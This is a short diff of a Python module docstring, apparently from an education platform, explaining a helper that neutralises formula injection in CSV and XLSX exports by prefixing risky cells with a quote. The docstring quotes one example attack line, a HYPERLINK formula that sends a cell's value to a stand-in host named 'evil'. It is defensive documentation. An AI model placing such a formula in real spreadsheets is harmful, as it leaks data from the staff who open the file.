@@ -5,9 +5,9 @@ LibreOffice evaluate a cell starting with `=`, `+`, `-`, `@` (or a tab / carriag
 as a formula: `=HYPERLINK("http://evil/?"&A1,"Bấm vào đây")` leaks data when staff open the file.
 The cell keeps its text, prefixed with `'` (shown as text, not evaluated). Numbers stay numbers.
 Every CSV export of the project writes through `csv_writer` (graders' completion report, auto_quiz's
-item statistics), every XLSX export through `xlsx_bytes` (an agency's staff list), whose text cells
-the same `spreadsheet_cell` defuses: one rule for both formats, so a workbook saved again as CSV stays
-safe. Pure: no framework import, so both xblocks and graders can use it.
+item statistics), every XLSX export through `xlsx_bytes` (an agency's staff list): a spreadsheet reads a text starting
+with `=` as a formula, so the same `spreadsheet_cell` defuses those cells too. Pure: no framework
+import, so both xblocks and graders can use it.
 """
 
 from __future__ import annotations
